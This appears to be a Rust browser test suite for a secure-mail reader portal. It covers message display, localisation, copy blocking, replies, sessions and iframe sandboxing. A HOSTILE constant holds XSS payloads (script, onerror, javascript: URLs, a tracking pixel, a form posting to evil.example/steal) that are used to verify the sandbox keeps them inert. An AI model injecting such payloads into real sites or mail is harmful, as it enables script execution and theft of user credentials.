//! The reader bundle's page — the message view and the reply form — driven
//! against the fake API.

mod common;

use common::*;
use sealmail_api::recipient::{BodyView, MessageView};
use sealmail_api::{ErrorCode, Protection};
use sealmail_portal::api::ApiError;
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

/// Mounts the reader with a session open, so it opens on the message.
fn reading(message: MessageView, lang: &str) -> (std::sync::Arc<FakeApi>, Mounted) {
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Ok(message)]);
    let page = mount_reader(&api, Some(lang));
    (api, page)
}

#[wasm_bindgen_test]
async fn the_message_view_shows_headers_body_attachments_and_expiry() {
    let (_api, _page) = reading(message_view(), "en");

    find("page-message").await;
    assert_eq!(text("subject"), "Your mortgage offer");
    assert_eq!(text("from"), "Alice Example <alice@contoso.example>");
    assert_eq!(text("to"), "Bob <bob@example.net>");
    assert_eq!(text("cc"), "carol@example.org");
    wait_text_contains("sent-at", "November 23, 2026").await;
    assert_eq!(
        testid("sent-at")
            .unwrap()
            .get_attribute("datetime")
            .as_deref(),
        Some("2026-11-23T09:30:00Z")
    );
    assert_eq!(text("body-text"), "Dear Bob,\n\nThe offer is attached.");
    assert!(text("protection").contains("Encrypt-only"));
    assert!(text("expires").starts_with("Expires December 1, 2026"));
    assert!(testid("dnf-notice").is_none());

    let link = testid("attachment-link").unwrap();
    assert_eq!(link.text_content().unwrap(), "offer.pdf");
    assert_eq!(
        link.get_attribute("href").as_deref(),
        Some("/api/v1/links/tok-123/attachments/a1")
    );
    assert_eq!(link.get_attribute("download").as_deref(), Some("offer.pdf"));
    assert_eq!(
        link.get_attribute("aria-label").as_deref(),
        Some("Download offer.pdf")
    );
    assert!(text("attachment").contains("application/pdf"));
    assert_eq!(text("attachment-size"), "1.5 MB");
    wait_focus("subject").await;
    until("the tab title", || {
        document().title() == "Your mortgage offer — Sealmail"
    })
    .await;
}

#[wasm_bindgen_test]
async fn dates_and_sizes_follow_the_language() {
    let (_api, _page) = reading(message_view(), "nl");
    find("page-message").await;
    assert_eq!(text("attachment-size"), "1,5 MB");
    wait_text_contains("sent-at", "23 november 2026").await;

    switch_language("ja");
    wait_text_contains("sent-at", "2026年11月23日").await;
    assert_eq!(text("attachment-size"), "1.5 MB");
    assert_eq!(
        testid("attachment-link")
            .unwrap()
            .get_attribute("aria-label")
            .as_deref(),
        Some("offer.pdf をダウンロード")
    );

    switch_language("da");
    wait_text_contains("sent-at", "23. november 2026").await;
    assert_eq!(text("attachment-size"), "1,5 MB");
}

#[wasm_bindgen_test]
async fn do_not_forward_is_announced_and_copying_is_discouraged() {
    let mut message = message_view();
    message.protection = Protection::DoNotForward;
    let (_api, _page) = reading(message, "en");

    let page = find("page-message").await;
    assert_eq!(
        text("dnf-notice"),
        "Do Not Forward: the sender asks you not to forward, copy or print this message."
    );
    assert!(text("protection").contains("Do Not Forward"));
    let content = query(".message-content").unwrap();
    let style = window().get_computed_style(&content).unwrap().unwrap();
    assert_eq!(style.get_property_value("user-select").unwrap(), "none");

    // A copy from the message is cancelled.
    let init = web_sys::EventInit::new();
    init.set_bubbles(true);
    init.set_cancelable(true);
    let copy = web_sys::Event::new_with_event_init_dict("copy", &init).unwrap();
    testid("body-text").unwrap().dispatch_event(&copy).unwrap();
    assert!(copy.default_prevented());
    assert!(
        page.class_list().contains("dnf"),
        "the print stylesheet hides .dnf content"
    );
}

#[wasm_bindgen_test]
async fn an_encrypt_only_message_can_be_copied() {
    let (_api, _page) = reading(message_view(), "en");
    find("page-message").await;
    let init = web_sys::EventInit::new();
    init.set_bubbles(true);
    init.set_cancelable(true);
    let copy = web_sys::Event::new_with_event_init_dict("copy", &init).unwrap();
    testid("body-text").unwrap().dispatch_event(&copy).unwrap();
    assert!(!copy.default_prevented());
}

const HOSTILE: &str = r#"<p>Hello</p>
<script>parent.postMessage('script ran','*'); alert('script');</script>
<img src="x" onerror="parent.postMessage('onerror ran','*'); alert('onerror')">
<svg onload="parent.postMessage('onload ran','*')"></svg>
<a id="js" href="javascript:parent.postMessage('javascript: ran','*')">click me</a>
<img src="https://tracker.example/pixel.png?who=bob">
<iframe src="javascript:parent.postMessage('nested ran','*')"></iframe>
<form action="https://evil.example/steal"><input name="pw"></form>
<meta http-equiv="refresh" content="0;url=javascript:parent.postMessage('refresh ran','*')">"#;

#[wasm_bindgen_test]
async fn an_html_body_is_framed_from_its_own_route() {
    let mut message = message_view();
    message.body = BodyView {
        text: Some("the text part".into()),
        html: true,
    };
    let (_api, _page) = reading(message, "en");
    let frame = find("body-html").await;
    assert_eq!(frame.tag_name(), "IFRAME");
    assert_eq!(
        frame.get_attribute("src").as_deref(),
        Some("/api/v1/links/tok-123/body")
    );
    assert!(frame.get_attribute("srcdoc").is_none());
    assert_eq!(
        frame.get_attribute("sandbox").as_deref(),
        Some("allow-same-origin allow-popups allow-popups-to-escape-sandbox")
    );
    assert_eq!(
        frame.get_attribute("referrerpolicy").as_deref(),
        Some("no-referrer")
    );
    assert_eq!(frame.get_attribute("title").as_deref(), Some("Message"));
    assert!(
        testid("body-text").is_none(),
        "the HTML is shown, not the text"
    );
}

#[wasm_bindgen_test]
async fn a_hostile_html_body_renders_inert() {
    let trap = ScriptTrap::set();
    let loads = FrameLoads::watch();
    // The same document the body route would serve, minus its CSP header: the
    // frame's sandbox alone must keep it inert.
    let hostile = document_url(&HOSTILE.replace("alert(", "void("));

    // First, show the trap works: the same document in a plain frame runs
    // (minus its alerts: a real dialog would stall the browser under test).
    let control = document().create_element("iframe").unwrap();
    control.set_attribute("src", &hostile).unwrap();
    document().body().unwrap().append_child(&control).unwrap();
    until("the control frame's script to report", || {
        !trap.messages.lock().unwrap().is_empty()
    })
    .await;
    until("the control frame to load", || loads.loaded() >= 1).await;
    control.remove();
    sleep(50).await; // let the control's queued messages arrive before clearing
    trap.messages.lock().unwrap().clear();
    *trap.alerts.lock().unwrap() = 0;

    let mut message = message_view();
    message.body = BodyView {
        text: None,
        html: true,
    };
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Ok(message)])
        .body_url(&hostile);
    let _page = mount_reader(&api, Some("en"));
    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
    assert_eq!(frame.get_attribute("src"), Some(hostile.clone()));
    until("the message frame to load", || loads.loaded() >= 2).await;
    // Messages posted during the load are queued as tasks: give them one more turn.
    sleep(50).await;

    assert_eq!(
        *trap.messages.lock().unwrap(),
        Vec::<String>::new(),
        "no injected script ran"
    );
    assert_eq!(*trap.alerts.lock().unwrap(), 0, "no alert");
    assert!(
        !frame.sandbox().contains("allow-scripts"),
        "{:?}",
        frame.get_attribute("sandbox")
    );
    // The portal may read the body's document (to size the frame); the
    // body's own script still never ran, though its elements are there.
    let body = frame
        .content_document()
        .expect("the body's document is readable by the portal");
    assert!(body.query_selector("script").unwrap().is_some());
    assert!(
        body.get_element_by_id("js").is_some(),
        "the hostile document is the one in the frame"
    );
    assert_eq!(
        frame.get_attribute("referrerpolicy").as_deref(),
        Some("no-referrer")
    );
    assert!(
        query("#js").is_none(),
        "the body's links stay inside the frame"
    );
    web_sys::Url::revoke_object_url(&hostile).unwrap();
}

#[wasm_bindgen_test]
async fn the_body_frame_never_carries_allow_scripts() {
    let mut message = message_view();
    message.body = BodyView {
        text: None,
        html: true,
    };
    let (_api, _page) = reading(message, "en");
    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();

    // Same-origin only lets the portal read the body's size; without
    // allow-scripts the body itself can run nothing, so it gains nothing.
    let tokens = frame.sandbox();
    assert!(
        !tokens.contains("allow-scripts"),
        "{:?}",
        frame.get_attribute("sandbox")
    );
    let mut granted: Vec<String> = (0..tokens.length())
        .filter_map(|i| tokens.item(i))
        .collect();
    granted.sort();
    assert_eq!(
        granted,
        [
            "allow-popups",
            "allow-popups-to-escape-sandbox",
            "allow-same-origin"
        ],
        "nothing else: no forms, no top navigation, no modals, no downloads"
    );
    assert_eq!(
        sealmail_portal::pages::recipient::html_body::SANDBOX
            .split_whitespace()
            .filter(|token| *token == "allow-scripts")
            .count(),
        0
    );
}

/// A mail of an ordinary length (a heading, a paragraph, a 60-row table),
/// then a table 900 px wide, then a last line the reader must reach.
fn long_mail() -> String {
    let rows: String = (1..=60)
        .map(|i| format!("<tr><td>Branch {i}</td><td>{}</td></tr>", i * 1250))
        .collect();
    let regions: String = (1..=9)
        .map(|i| {
            format!(
                "<td style=\"white-space:nowrap\">Region {i}: {}</td>",
                i * 9100
            )
        })
        .collect();
    body_document(&format!(
        "<h1>Quarterly figures</h1>\
         <p>Dear Bob, here are this quarter's figures for every branch, as promised at \
         our last meeting. The totals are at the bottom, and the wide table after them \
         compares the regions side by side.</p>\
         <table>{rows}</table>\
         <table style=\"width:900px\"><tr>{regions}</tr></table>\
         <p id=\"last\">Kind regards, Alice</p>"
    ))
}

/// The body's document, which the portal can read (same origin, no script).
fn frame_document(frame: &web_sys::HtmlIFrameElement) -> web_sys::Document {
    frame
        .content_document()
        .expect("the portal can read the body's document to size its frame")
}

/// The frame is at least as tall as its document, which has nothing left to
/// scroll vertically: the page's scroll bar is the only one.
fn fits_its_content(frame: &web_sys::HtmlIFrameElement) -> bool {
    let root = frame_document(frame).document_element().unwrap();
    let frame_height = frame.get_bounding_client_rect().height();
    frame_height >= f64::from(root.scroll_height()) && root.scroll_height() <= root.client_height()
}

/// The frame fits its content and is no taller: its viewport ends where the
/// body does (give or take a rounded pixel), so it follows the content down
/// as well as up.
fn hugs_its_content(frame: &web_sys::HtmlIFrameElement) -> bool {
    let document = frame_document(frame);
    let body = document.body().unwrap();
    let content = body.get_bounding_client_rect().height().ceil();
    let viewport = document.document_element().unwrap().client_height();
    fits_its_content(frame) && f64::from(viewport) <= content + 1.0
}

/// What the frame's height is, for the messages.
fn frame_sizes(frame: &web_sys::HtmlIFrameElement) -> String {
    let root = frame_document(frame).document_element().unwrap();
    format!(
        "frame {} px high, its document {} px to scroll in a {} px viewport",
        frame.get_bounding_client_rect().height(),
        root.scroll_height(),
        root.client_height()
    )
}

#[wasm_bindgen_test]
async fn a_long_html_body_grows_its_frame_to_its_content_at_phone_and_desktop_widths() {
    let loads = FrameLoads::watch();
    let mail = document_url(&long_mail());
    let mut message = message_view();
    message.body = BodyView {
        text: None,
        html: true,
    };
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Ok(message)])
        .body_url(&mail);
    let _page = mount_reader(&api, Some("en"));
    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
    until("the body to load", || loads.loaded() >= 1).await;

    let container: web_sys::HtmlElement = query("[data-test-mount]").unwrap().unchecked_into();
    let mut heights = Vec::new();
    for width in [375, 1280] {
        container
            .style()
            .set_property("width", &format!("{width}px"))
            .unwrap();
        until(
            &format!("the frame to fit its content at {width} px"),
            || hugs_its_content(&frame),
        )
        .await;
        // And it stays so: not a passing moment of a frame still settling.
        sleep(100).await;
        assert!(
            hugs_its_content(&frame),
            "{width} px: {}",
            frame_sizes(&frame)
        );
        let root = frame_document(&frame).document_element().unwrap();
        if width == 375 {
            // The wide table scrolls sideways inside the frame ...
            assert!(
                root.scroll_width() > root.client_width() + 400,
                "the 900 px table is cut to {} px",
                root.scroll_width()
            );
            // ... and never widens the page.
            assert!(
                container.scroll_width() <= 375,
                "the page is {} px wide",
                container.scroll_width()
            );
        }
        // The last line is inside the frame's visible height.
        let last = frame_document(&frame).get_element_by_id("last").unwrap();
        assert!(
            last.get_bounding_client_rect().bottom() <= f64::from(root.client_height()),
            "{width} px: the last line is below the frame's edge"
        );
        heights.push(frame.get_bounding_client_rect().height());
    }
    // Wider, the text wraps less: the frame follows its content down too.
    assert!(heights[0] > heights[1], "{heights:?}");
    web_sys::Url::revoke_object_url(&mail).unwrap();
}

#[wasm_bindgen_test]
async fn the_frame_follows_its_content_as_images_decode_after_loading() {
    let loads = FrameLoads::watch();
    let mail = document_url(&body_document("<p id=\"greeting\">Hello Bob,</p>"));
    let mut message = message_view();
    message.body = BodyView {
        text: None,
        html: true,
    };
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Ok(message)])
        .body_url(&mail);
    let _page = mount_reader(&api, Some("en"));
    let frame: web_sys::HtmlIFrameElement = find("body-html").await.unchecked_into();
    until("the body to load", || loads.loaded() >= 1).await;
    until("the frame to fit its short body", || {
        hugs_its_content(&frame)
    })
    .await;
    let short = frame.get_bounding_client_rect().height();
    assert!(short < 200.0, "a one-line body in a {short} px frame");

    // An image that only decodes now (as late images and web fonts change
    // the body's size after its load event): the frame grows to show it all.
    let body = frame_document(&frame);
    let image = body.create_element("img").unwrap();
    image
        .set_attribute(
            "src",
            "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='40' height='900'%3E%3C/svg%3E",
        )
        .unwrap();
    body.body().unwrap().append_child(&image).unwrap();
    until("the frame to grow to the image", || {
        frame.get_bounding_client_rect().height() >= short + 900.0 && hugs_its_content(&frame)
    })
    .await;

    // And back when it goes.
    image.remove();
    until("the frame to shrink back", || {
        (frame.get_bounding_client_rect().height() - short).abs() < 1.0
    })
    .await;
    web_sys::Url::revoke_object_url(&mail).unwrap();
}

#[wasm_bindgen_test]
async fn a_reply_is_sent_with_its_files_and_confirmed() {
    let (api, _page) = reading(message_view(), "en");
    find("reply-text").await;
    assert_eq!(
        query("label[for=reply-text]")
            .unwrap()
            .text_content()
            .unwrap(),
        "Your reply"
    );

    fill_in("reply-text", "Thank you, signed copy attached.");
    let transfer = web_sys::DataTransfer::new().unwrap();
    let parts = js_sys::Array::of1(&"%PDF-1.4".into());
    let file = web_sys::File::new_with_str_sequence(&parts, "signed.pdf").unwrap();
    transfer.items().add_with_file(&file).unwrap();
    testid("reply-files")
        .unwrap()
        .unchecked_into::<web_sys::HtmlInputElement>()
        .set_files(transfer.files().as_ref());
    click("reply-send");

    wait_text(
        "reply-sent",
        "Your reply was encrypted and sent to Alice Example.",
    )
    .await;
    wait_focus("reply-sent").await;
    assert_eq!(
        api.calls().last(),
        Some(&Call::Reply {
            text: "Thank you, signed copy attached.".into(),
            files: vec!["signed.pdf".into()],
        })
    );

    click("reply-another");
    wait_focus("reply-text").await;
    assert_eq!(text("reply-sent"), "");
}

#[wasm_bindgen_test]
async fn an_empty_reply_is_caught_on_the_page() {
    let (api, _page) = reading(message_view(), "ja");
    find("reply-send").await;
    assert_eq!(text("reply-send"), "暗号化して返信");

    click("reply-send");

    wait_text("reply-error", "先に返信の内容を入力してください。").await;
    wait_focus("reply-text").await;
    assert!(!api.calls().iter().any(|c| matches!(c, Call::Reply { .. })));
}

#[wasm_bindgen_test]
async fn a_reply_too_large_is_explained_on_the_page() {
    let (api, _page) = reading(message_view(), "en");
    let api = api.reply(vec![Err(error(ErrorCode::PayloadTooLarge))]);
    find("reply-text").await;
    fill_in("reply-text", "big");
    click("reply-send");
    wait_text(
        "reply-error",
        "The attachments are too large. Remove some and try again.",
    )
    .await;
    assert!(testid("page-message").is_some());
    drop(api);
}

#[wasm_bindgen_test]
async fn a_session_that_ended_while_replying_goes_back_to_the_gate_saying_so() {
    let (api, _page) = reading(message_view(), "en");
    api.reply(vec![Err(error(ErrorCode::SessionExpired))]);
    find("reply-text").await;
    fill_in("reply-text", "hello");
    click("reply-send");

    // The gate asks for a new passcode, saying why (tests/error_pages.rs).
    wait_left_to("/m/tok-123?back=session-ended").await;
}

#[wasm_bindgen_test]
async fn a_session_that_ended_before_the_message_loaded_goes_back_to_the_gate() {
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Err(error(ErrorCode::SessionExpired))]);
    let _page = mount_reader(&api, Some("en"));
    wait_left_to("/m/tok-123?back=session-ended").await;
}

#[wasm_bindgen_test]
async fn a_reader_without_a_session_goes_to_the_gate() {
    let api = FakeApi::new();
    let _page = mount_reader(&api, Some("en"));
    wait_left_to("/m/tok-123").await;
    assert_eq!(api.calls(), vec![Call::Link]);
}

#[wasm_bindgen_test]
async fn a_message_revoked_while_reading_goes_to_the_gate_which_says_so() {
    let (api, _page) = reading(message_view(), "nl");
    api.reply(vec![Err(error(ErrorCode::MessageRevoked))]);
    find("reply-text").await;
    fill_in("reply-text", "hallo");
    click("reply-send");

    // The gate asks the server again and shows the revoked page
    // (tests/error_pages.rs; end to end in e2e/).
    wait_left_to("/m/tok-123").await;
}

#[wasm_bindgen_test]
async fn an_unreachable_server_while_reading_offers_a_retry() {
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info)])
        .message(vec![Err(ApiError::Unreachable), Ok(message_view())]);
    let _page = mount_reader(&api, Some("en"));
    find("page-unavailable").await;
    assert_eq!(left_to(), None);

    click("retry");
    find("page-message").await;
}

#[wasm_bindgen_test]
async fn signing_out_returns_to_the_gate_saying_so() {
    let (api, _page) = reading(message_view(), "en");
    find("sign-out").await;
    assert_eq!(text("sign-out"), "Sign out");

    click("sign-out");

    wait_left_to("/m/tok-123?back=signed-out").await;
    assert_eq!(api.calls().last(), Some(&Call::EndSession));
}

#[wasm_bindgen_test]
async fn signing_out_while_the_server_is_away_offers_a_retry() {
    let mut info = link_info();
    info.session_open = true;
    let api = FakeApi::new()
        .link(vec![Ok(info), Err(ApiError::Unreachable)])
        .end_session(vec![Err(ApiError::Unreachable)]);
    let _page = mount_reader(&api, Some("en"));
    find("sign-out").await;
    click("sign-out");
    // The message is asked for again, and the server still away: the retry page.
    find("page-unavailable").await;
    assert_eq!(left_to(), None);
}
